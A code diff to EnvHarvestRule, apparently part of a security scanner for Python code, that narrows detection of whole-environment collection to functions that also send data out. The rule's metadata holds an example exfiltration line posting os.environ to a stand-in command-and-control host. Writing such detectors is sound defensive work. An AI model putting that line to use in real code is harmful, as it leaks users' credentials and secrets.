@@ -24,8 +24,7 @@ public final class EnvHarvestRule implements PythonFileRule {
             Severity.HIGH, Confidence.HIGH, Set.of(Tags.CREDENTIALS, Tags.EXFILTRATION),
             "requests.post('https://c2.example.invalid/e', json=dict(os.environ))",
             "os.environ.copy() to build a child process's environment is normal and is only reported when the same "
-                    + "function (high) or file (medium) also sends data over the network; reading single variables is "
-                    + "never reported by this rule.");
+                    + "function also sends data over the network; reading single variables is never reported by this rule.");
 
     @Override
     public RuleInfo info() {
@@ -47,9 +46,6 @@ public final class EnvHarvestRule implements PythonFileRule {
             if (direct || facts.scopeHas(c.scope(), Capability.SEND)) {
                 sink.report(Location.of(file, c.call()), "the whole environment is collected where data is sent out",
                         file.line(c.call().line()));
-            } else if (facts.fileCaps().contains(Capability.SEND)) {
-                sink.report(Location.of(file, c.call()), "the whole environment is collected in a file that sends data",
-                        file.line(c.call().line()), Severity.MEDIUM, Confidence.MEDIUM);
             }
         }
     }
